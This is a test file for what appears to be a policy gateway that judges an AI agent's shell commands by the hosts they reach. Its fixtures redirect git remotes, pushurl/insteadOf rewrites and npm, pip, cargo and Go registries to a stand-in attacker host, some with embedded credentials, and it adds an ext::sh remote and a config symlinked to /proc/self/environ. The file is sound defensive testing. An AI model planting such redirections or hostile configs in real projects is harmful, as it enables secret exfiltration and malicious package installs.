import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { factsDigest } from '../../gateway/judging/judged-call.ts'
import { compilePolicy, type PolicyBlock } from '../../policy/index.ts'
import { createFactsGatherer } from './gather-facts.ts'
import { parseGitSettings } from './git-config.ts'

let base: string
let project: string
let home: string
beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'banksman-hosts-')))
  project = join(base, 'project')
  home = join(base, 'ana')
  mkdirSync(project)
  mkdirSync(home)
})
afterEach(() => rmSync(base, { recursive: true, force: true }))

function write(path: string, text: string): void {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, text)
}
const repository = (config: string, folder = project) => {
  write(join(folder, '.git', 'HEAD'), 'ref: refs/heads/main\n')
  write(join(folder, '.git', 'config'), config)
}
const judged = async (
  command: string,
  { remote = false, block = DENY }: { remote?: boolean; block?: PolicyBlock } = {},
) => {
  const policy = compilePolicy({ mode: 'bypass', ...block }, { roots: [project], home })
  const gather = createFactsGatherer({ lookups: policy.lookups, now: () => 0, home })
  const call = { tool: 'Bash', arguments: { command }, cwd: project }
  const facts = await gather(call, { remote })
  return { kind: policy.evaluate(call, facts).kind, because: policy.evaluate(call, facts).because, facts }
}
const kindOf = async (command: string, more: Parameters<typeof judged>[1] = {}) =>
  (await judged(command, more)).kind
const DENY: PolicyBlock = { deny: ['WebFetch(domain:evil.example)'] }

describe('remotes of git', () => {
  it('are looked up by their name', async () => {
    repository(
      '[remote "origin"]\n\turl = git@good.example:a/b.git\n[remote "bad"]\n\turl = https://ana:secret@evil.example/a/b\n',
    )
    for (const line of [
      'git fetch origin',
      'git push origin main',
      'git fetch',
      'git pull',
      'git ls-remote origin',
      'git remote show origin',
    ])
      expect(await kindOf(line), line).toBe('allow')
    for (const line of [
      'git fetch bad',
      'git push bad main',
      'git pull bad',
      'git fetch --all',
      'git remote update',
      'git remote show bad',
      'git fetch --multiple origin bad',
      'git archive --remote=bad HEAD',
      'git push --repo=bad',
    ])
      expect(await kindOf(line), line).toBe('deny')
    const { because, facts } = await judged('git push bad main')
    expect(because).toContain('it reaches evil.example (remote bad)')
    expect(JSON.stringify(facts)).not.toContain('secret')
    expect(await kindOf('git push bad main', { block: { ask: ['WebFetch(domain:evil.example)'] } })).toBe(
      'ask',
    )
  })

  it('are those of the folder that the command runs in', async () => {
    repository('[remote "origin"]\nurl = https://good.example/a\n')
    repository('[remote "origin"]\nurl = https://evil.example/a\n', join(project, 'sub'))
    mkdirSync(join(project, 'sub', 'deep'))
    for (const line of [
      'git -C sub push origin',
      'cd sub && git push origin',
      'cd sub/deep && git pull',
      'git -C sub -C deep fetch',
    ])
      expect(await kindOf(line), line).toBe('deny')
    expect(await kindOf('git -C "$X" push origin')).toBe('ask')
    expect(await kindOf('cd "$X"; git push origin')).toBe('ask')
    expect(await kindOf('git push origin')).toBe('allow')
  })

  it('the default one is that of the branch, for a push that of pushes', async () => {
    const remotes = '[remote "a"]\nurl = https://evil.example/a\n[remote "b"]\nurl = https://good.example/b\n'
    repository(`${remotes}[branch "main"]\nremote = a\n`)
    expect(await kindOf('git fetch')).toBe('deny')
    expect(await kindOf('git push')).toBe('deny')
    repository(`${remotes}[branch "main"]\nremote = a\npushRemote = b\n`)
    expect(await kindOf('git pull')).toBe('deny')
    expect(await kindOf('git push')).toBe('allow')
    repository(`${remotes}[branch "main"]\nremote = b\n[remote]\npushDefault = a\n`)
    expect(await kindOf('git pull')).toBe('allow')
    expect(await kindOf('git push')).toBe('deny')
    repository('[remote "only"]\nurl = https://evil.example/a\n')
    expect(await kindOf('git fetch')).toBe('deny')
  })

  it('follow pushurl, insteadOf and includes', async () => {
    repository('[remote "o"]\nurl = https://good.example/a\npushurl = https://evil.example/a\n')
    expect(await kindOf('git fetch o')).toBe('allow')
    expect(await kindOf('git push o')).toBe('deny')
    repository('[remote "o"]\nurl = gh:a/b\n[url "https://evil.example/"]\ninsteadOf = gh:\n')
    expect(await kindOf('git fetch o')).toBe('deny')
    repository(
      '[remote "o"]\nurl = https://good.example/a\n[url "ssh://git@evil.example/"]\npushInsteadOf = https://good.example/\n',
    )
    expect(await kindOf('git fetch o')).toBe('allow')
    expect(await kindOf('git push o')).toBe('deny')
    repository('[remote "o"]\nurl = https://good.example/a\n[include]\npath = more\n')
    expect(await kindOf('git fetch o')).toBe('allow')
    write(join(project, '.git', 'more'), '[remote "o"]\nurl = https://evil.example/b\n')
    expect(await kindOf('git fetch o')).toBe('deny')
    repository('[remote "o"]\nurl = https://good.example/a\n')
    write(join(home, '.gitconfig'), '[url "https://evil.example/"]\n\tinsteadOf = https://good.example/\n')
    expect(await kindOf('git fetch o')).toBe('deny')
    expect(await kindOf('git push https://good.example/x')).toBe('deny')
    expect(await kindOf('git clone https://good.example/x')).toBe('deny')
    write(join(home, '.gitconfig'), '[includeIf "gitdir:~/work/"]\npath = ~/other\n')
    write(join(home, 'other'), '[user]\nname = ana\n')
    expect(await kindOf('git fetch o')).toBe('allow')
    write(join(home, 'other'), '[url "x"]\ninsteadOf = y\n')
    expect(await kindOf('git fetch o')).toBe('ask')
  })

  it('of work trees and repositories without one', async () => {
    repository('[remote "o"]\nurl = https://evil.example/a\n')
    write(join(project, '.git', 'worktrees', 'w', 'HEAD'), 'ref: refs/heads/w\n')
    write(join(project, '.git', 'worktrees', 'w', 'commondir'), '../..\n')
    write(join(project, 'tree', '.git'), `gitdir: ${join(project, '.git', 'worktrees', 'w')}\n`)
    expect(await kindOf('git -C tree fetch o')).toBe('deny')
    write(join(project, 'bare', 'HEAD'), 'ref: refs/heads/main\n')
    write(join(project, 'bare', 'config'), '[remote "o"]\nurl = https://good.example/a\n')
    expect(await kindOf('git -C bare fetch o')).toBe('allow')
  })

  it('P5: what can not be looked up or understood needs a person, and is never denied', async () => {
    expect(await kindOf('git fetch origin')).toBe('ask')
    for (const config of [
      '[remote "origin"]\nurl = ext::sh -c x\n',
      '[remote "origin"]\nurl = work:a/b\n',
      '[remote "origin"]\nvcs = hg\n',
      '[remote "origin"]\nurl = https://good.example/a\n[core]\nsshCommand = x\n',
      '[remote "origin"\nurl = https://good.example/a\n',
      'url = https://good.example/a\n',
      '[remote "origin"]\nurl = "https://good.example/a\n',
      `[remote "origin"]\nurl = https://good.example/a\n${'#'.repeat(300_000)}`,
      '[include]\npath = %(prefix)/x\n[remote "origin"]\nurl = https://good.example/a\n',
      '[include]\npath = config\n[remote "origin"]\nurl = https://good.example/a\n',
    ]) {
      repository(config)
      expect(await kindOf('git fetch origin'), config.slice(0, 80)).toBe('ask')
    }
    repository('[remote "origin"]\nurl = https://good.example/a\n')
    expect(await kindOf('git fetch origin', { remote: true })).toBe('ask')
    write(join(project, '.git', 'remotes', 'old'), 'URL: https://evil.example/a\n')
    expect(await kindOf('git fetch old')).toBe('ask')
    rmSync(join(project, '.git', 'config'))
    symlinkSync('/proc/self/environ', join(project, '.git', 'config'))
    expect(await kindOf('git fetch origin')).not.toBe('deny')
    rmSync(join(project, '.git'), { recursive: true })
    write(join(project, '.git'), 'nonsense\n')
    expect(await kindOf('git fetch origin')).toBe('ask')
  })

  it('a remote on this machine reaches nothing', async () => {
    repository('[remote "o"]\nurl = /srv/git/a\n[remote "p"]\nurl = file:///srv/git/a\n')
    for (const name of ['o', 'p']) {
      expect(await kindOf(`git fetch ${name}`)).toBe('allow')
      expect(await kindOf(`git fetch ${name}`, { block: NETWORK })).toBe('allow')
    }
  })

  it('a remote that leads elsewhere by the time of the claim is another fact, which refuses the claim', async () => {
    const rule: PolicyBlock = { ask: ['WebFetch(domain:evil.example)'] }
    repository('[remote "o"]\nurl = https://evil.example/a\n')
    const before = await judged('git push o', { block: rule })
    expect(before.kind).toBe('ask')
    expect(factsDigest((await judged('git push o', { block: rule })).facts)).toBe(factsDigest(before.facts))
    repository('[remote "o"]\nurl = https://other.evil.example/a\n')
    const after = await judged('git push o', { block: rule })
    expect(factsDigest(after.facts)).not.toBe(factsDigest(before.facts))
  })

  it('nothing is looked up where no rule is about hosts', async () => {
    repository('[remote "origin"]\nurl = https://good.example/a\n')
    expect(
      (await judged('git fetch origin', { block: { deny: ['Bash(rm *)'] } })).facts.hosts,
    ).toBeUndefined()
    expect(Object.keys((await judged('git fetch origin')).facts.hosts ?? {})).toHaveLength(1)
  })
})

const NETWORK: PolicyBlock = { rules: [{ name: 'network', when: { kind: 'network' }, then: 'ask' }] }

describe('registries', () => {
  it('are looked up in the settings of the project and of the home folder', async () => {
    expect(await kindOf('npm install')).toBe('allow')
    write(join(project, '.npmrc'), '//evil.example/:_authToken=secret\nregistry=https://evil.example/npm/\n')
    const { kind, because, facts } = await judged('npm install')
    expect(kind).toBe('deny')
    expect(because).toContain('it reaches evil.example (npm settings)')
    expect(JSON.stringify(facts)).not.toContain('secret')
    for (const line of ['npx x', 'pnpm add x', 'yarn', 'bun add x'])
      expect(await kindOf(line), line).toBe('deny')
    expect(await kindOf('npm test')).toBe('allow')
    expect(await kindOf('npm install', { remote: true })).toBe('allow')
    write(join(project, '.npmrc'), 'registry=https://good.example/npm/\n@a:registry=https://evil.example/\n')
    expect(await kindOf('npm install')).toBe('ask')
    write(join(project, '.npmrc'), '# registry=https://evil.example/npm/\n')
    expect(await kindOf('npm install')).toBe('allow')
    write(join(home, '.npmrc'), 'registry = https://evil.example/\n')
    expect(await kindOf('npm install')).toBe('deny')
    write(join(project, '.npmrc'), 'registry=https://good.example/\n')
    expect(await kindOf('npm install')).toBe('ask')
  })

  it('of other package managers too', async () => {
    write(join(home, '.config', 'pip', 'pip.conf'), '[global]\nindex-url = https://evil.example/simple\n')
    expect(await kindOf('pip install x')).toBe('deny')
    expect(await kindOf('python -m pip install x')).toBe('deny')
    write(
      join(project, '.cargo', 'config.toml'),
      '[source.mine]\nregistry = "sparse+https://evil.example/i/"\n',
    )
    expect(await kindOf('cargo add x')).toBe('ask')
    expect(await kindOf('cargo test')).toBe('allow')
    write(join(project, 'Gemfile'), "source 'https://evil.example'\n")
    expect(await kindOf('bundle install')).toBe('ask')
    write(join(project, 'composer.json'), '{ "repositories": [{ "url": "https://evil.example/p" }] }')
    expect(await kindOf('composer install')).toBe('ask')
    write(join(home, '.config', 'go', 'env'), 'GOPROXY=https://evil.example\n')
    expect(await kindOf('go mod download')).toBe('ask')
  })
})

it('property: any text of settings is understood or not, and never fails', () => {
  const line = fc.oneof(
    fc.constantFrom(
      '[a]',
      '[a "b"]',
      '[',
      ']',
      'k = v',
      'k',
      'k = "v',
      'k = \\',
      '# c',
      '[a "\\"]',
      '\t',
      '=',
      '[a.b] x = y',
    ),
    fc.string({ maxLength: 20 }),
  )
  fc.assert(
    fc.property(fc.array(line, { maxLength: 10 }), (lines) => {
      const settings = parseGitSettings(lines.join('\n'))
      for (const { section, key, value } of settings ?? []) {
        expect([typeof section, typeof key, typeof value]).toEqual(['string', 'string', 'string'])
      }
    }),
  )
  expect(parseGitSettings('[Remote "Origin"] URL = a # b\n[x.Y]\nk = "a # b" c ; d\nflag\n')).toEqual([
    { section: 'remote', name: 'Origin', key: 'url', value: 'a' },
    { section: 'x', name: 'y', key: 'k', value: 'a # b c' },
    { section: 'x', name: 'y', key: 'flag', value: 'true' },
  ])
})
